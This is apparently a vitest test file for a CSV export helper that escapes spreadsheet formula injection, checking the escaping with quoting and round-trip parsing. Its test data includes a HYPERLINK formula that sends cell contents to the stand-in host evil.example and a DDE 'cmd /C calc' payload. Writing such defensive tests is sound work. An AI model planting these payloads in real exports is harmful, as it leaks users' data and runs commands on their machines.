import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv, toCsvCell } from '@/lib/csv';

/** Text a spreadsheet would run as a formula, by the character that makes it one. */
const FORMULAS: [string, string][] = [
  ['=', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
  ['+', '+1+cmd|\' /C calc\'!A0'],
  ['-', '-2+3'],
  ['@', '@SUM(1+1)'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
  ['NUL', '\0=1+1'],
  ['a leading space before =', ' =1+1'],
  ['a leading newline before @', '\n@SUM(1)'],
  ['full-width =', '\uFF1D1+1'],
];

describe('toCsvCell', () => {
  it.each(FORMULAS)('prefixes a quote and quotes a text cell starting with %s', (_, value) => {
    const cell = toCsvCell(value);
    expect(cell).toBe(`"'${value.replaceAll('"', '""')}"`);
    // A CSV reader gets the value back behind the quote, so nothing is lost.
    expect(parse(`${cell}\r\n`, { relax_quotes: false })).toEqual([[`'${value}`]]);
  });

  it.each(['orders', 'a=b', 'x-1', 'user@example.com', 'States.TaskFailed', ''])('leaves harmless text %j as it is', (value) => {
    expect(toCsvCell(value)).toBe(value);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) without a formula prefix', () => {
    expect(toCsvCell('a,b')).toBe('"a,b"');
    expect(toCsvCell('say "hi"')).toBe('"say ""hi"""');
    expect(toCsvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('keeps numbers the product computed as numbers, negative ones included', () => {
    expect(toCsvCell('-12.500000', 'number')).toBe('-12.500000');
    expect(toCsvCell('42', 'number')).toBe('42');
    expect(toCsvCell('unknown', 'number')).toBe('unknown');
    // Anything else in a number column is text, so a formula there is still escaped.
    expect(toCsvCell('-1+1', 'number')).toBe(`"'-1+1"`);
    expect(toCsvCell('=1', 'number')).toBe(`"'=1"`);
    // The same negative number in a text column (a state machine named "-5") is text.
    expect(toCsvCell('-5')).toBe(`"'-5"`);
  });
});

describe('toCsv', () => {
  it('writes every row through the same escaping and reads back cell for cell', () => {
    const columns = [{ title: 'name' }, { title: 'saving_usd', kind: 'number' as const }, { title: 'notes' }];
    const rows = FORMULAS.map(([, value], index) => [value, `-${index}.25`, `note ${index}, with "quotes"`]);
    const csv = toCsv(columns, rows);
    expect(csv.startsWith('name,saving_usd,notes\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const parsed = parse(csv) as string[][];
    expect(parsed).toEqual([['name', 'saving_usd', 'notes'], ...rows.map(([name, saving, notes]) => [`'${name}`, saving, notes])]);
  });
});
